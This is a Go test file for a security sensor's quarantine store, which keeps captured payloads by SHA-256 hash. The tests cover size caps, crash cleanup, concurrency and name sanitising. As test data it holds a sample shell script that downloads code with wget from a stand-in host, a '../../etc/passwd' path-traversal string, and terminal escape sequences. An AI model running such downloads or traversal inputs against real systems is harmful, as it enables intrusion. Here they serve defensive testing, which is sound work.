package sensor

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func sumHex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func TestQuarantineStoresByHash(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "q")
	q, err := OpenQuarantine(dir, QuarantineLimits{})
	if err != nil {
		t.Fatal(err)
	}
	body := []byte("#!/bin/sh\nwget http://example.invalid/x\n")
	ref, err := q.Put("x.sh", body)
	if err != nil {
		t.Fatal(err)
	}
	want := PayloadRef{SHA256: sumHex(body), Size: int64(len(body)), Name: "x.sh"}
	if ref != want {
		t.Fatalf("got %+v, want %+v", ref, want)
	}
	p, _ := q.Path(ref.SHA256)
	got, err := os.ReadFile(p)
	if err != nil || !bytes.Equal(got, body) {
		t.Fatalf("file %s: %q, %v; want %q", p, got, err, body)
	}
	for path, mode := range map[string]os.FileMode{dir: 0o700 | os.ModeDir, p: 0o600} {
		info, err := os.Stat(path)
		if err != nil {
			t.Fatal(err)
		}
		if info.Mode() != mode {
			t.Errorf("%s: mode %v, want %v", path, info.Mode(), mode)
		}
	}
	// The same bytes again share the file and do not count twice.
	if _, err := q.Capture("again", bytes.NewReader(body)); err != nil {
		t.Fatal(err)
	}
	if q.Used() != int64(len(body)) {
		t.Errorf("used %d after a duplicate, want %d", q.Used(), len(body))
	}
	f, err := q.Open(ref.SHA256)
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	if _, err := q.Open(sumHex([]byte("absent"))); !errors.Is(err, ErrNotQuarantined) {
		t.Errorf("absent hash: %v, want ErrNotQuarantined", err)
	}
	if _, err := q.Open("../../etc/passwd"); !errors.Is(err, ErrNotQuarantined) {
		t.Errorf("a path for a hash: %v, want ErrNotQuarantined", err)
	}
	ents, _ := os.ReadDir(filepath.Join(dir, quarantineTmp))
	if len(ents) != 0 {
		t.Errorf("%d temporary files left", len(ents))
	}
}

func TestQuarantineCaps(t *testing.T) {
	tests := []struct {
		name          string
		limits        QuarantineLimits
		held          int // bytes captured before
		writes        []string
		wantKept      string
		wantTruncated bool
	}{
		{"under the file cap", QuarantineLimits{MaxFile: 10}, 0, []string{"abc", "def"}, "abcdef", false},
		{"exactly the file cap", QuarantineLimits{MaxFile: 6}, 0, []string{"abc", "def"}, "abcdef", false},
		{"over the file cap", QuarantineLimits{MaxFile: 4}, 0, []string{"abc", "def", "ghi"}, "abcd", true},
		{"over the total cap", QuarantineLimits{MaxFile: 100, MaxTotal: 10}, 8, []string{"abc", "d"}, "ab", true},
		{"total cap full", QuarantineLimits{MaxFile: 100, MaxTotal: 8}, 8, []string{"abc"}, "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			if tt.held > 0 {
				// Bytes already on disk count at open.
				os.WriteFile(filepath.Join(dir, sumHex([]byte("held"))), bytes.Repeat([]byte{'h'}, tt.held), 0o600)
			}
			q, err := OpenQuarantine(dir, tt.limits)
			if err != nil {
				t.Fatal(err)
			}
			c, err := q.Create("up")
			if err != nil {
				t.Fatal(err)
			}
			var sent int64
			for _, w := range tt.writes {
				n, err := c.Write([]byte(w))
				if n != len(w) || err != nil {
					t.Fatalf("Write(%q) = %d, %v; want %d, nil", w, n, err, len(w))
				}
				sent += int64(n)
			}
			ref, err := c.Commit()
			if err != nil {
				t.Fatal(err)
			}
			want := PayloadRef{SHA256: sumHex([]byte(tt.wantKept)), Size: int64(len(tt.wantKept)), Name: "up", Truncated: tt.wantTruncated}
			if ref != want {
				t.Errorf("got %+v, want %+v", ref, want)
			}
			if c.Received() != sent {
				t.Errorf("received %d, want %d", c.Received(), sent)
			}
			if got, _ := os.ReadFile(filepath.Join(dir, ref.SHA256)); string(got) != tt.wantKept {
				t.Errorf("kept %q, want %q", got, tt.wantKept)
			}
		})
	}
}

func TestQuarantineAbortAndRestart(t *testing.T) {
	dir := t.TempDir()
	q, err := OpenQuarantine(dir, QuarantineLimits{MaxTotal: 100})
	if err != nil {
		t.Fatal(err)
	}
	c, _ := q.Create("gone")
	c.Write([]byte("0123456789"))
	if q.Used() != 10 {
		t.Fatalf("used %d while capturing, want 10", q.Used())
	}
	c.Abort()
	c.Abort()
	if q.Used() != 0 {
		t.Fatalf("used %d after abort, want 0", q.Used())
	}
	if _, err := c.Commit(); err == nil {
		t.Fatal("commit after abort succeeded")
	}
	// A crash leaves a temporary file: reopening removes it.
	left, _ := q.Create("crash")
	left.Write([]byte("partial"))
	if _, err := q.Put("kept", []byte("kept bytes")); err != nil {
		t.Fatal(err)
	}
	q2, err := OpenQuarantine(dir, QuarantineLimits{MaxTotal: 100})
	if err != nil {
		t.Fatal(err)
	}
	if q2.Used() != int64(len("kept bytes")) {
		t.Errorf("used %d after reopen, want %d", q2.Used(), len("kept bytes"))
	}
	if ents, _ := os.ReadDir(filepath.Join(dir, quarantineTmp)); len(ents) != 0 {
		t.Errorf("%d temporary files survived reopen", len(ents))
	}
}

func TestQuarantineConcurrentSameBytes(t *testing.T) {
	q, err := OpenQuarantine(t.TempDir(), QuarantineLimits{})
	if err != nil {
		t.Fatal(err)
	}
	body := bytes.Repeat([]byte("payload "), 1000)
	var wg sync.WaitGroup
	for range 16 {
		wg.Go(func() {
			if _, err := q.Capture("p", io.MultiReader(bytes.NewReader(body[:100]), bytes.NewReader(body[100:]))); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	if q.Used() != int64(len(body)) {
		t.Errorf("used %d, want %d (one copy)", q.Used(), len(body))
	}
}

func TestPayloadName(t *testing.T) {
	tests := []struct{ in, want string }{
		{"x.sh", "x.sh"},
		{"a\nb\x1b[0m", "a\uFFFDb\uFFFD[0m"},
		{"bad\xffutf8", "bad\uFFFDutf8"},
		{"c1\u009b31m\u0085x\u00a0é", "c1\uFFFD31m\uFFFDx\u00a0é"},
		{"raw\x9b", "raw\uFFFD"},
		{strings.Repeat("é", 400), strings.Repeat("é", 256)},
	}
	for _, tt := range tests {
		if got := payloadName(tt.in); got != tt.want {
			t.Errorf("payloadName(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
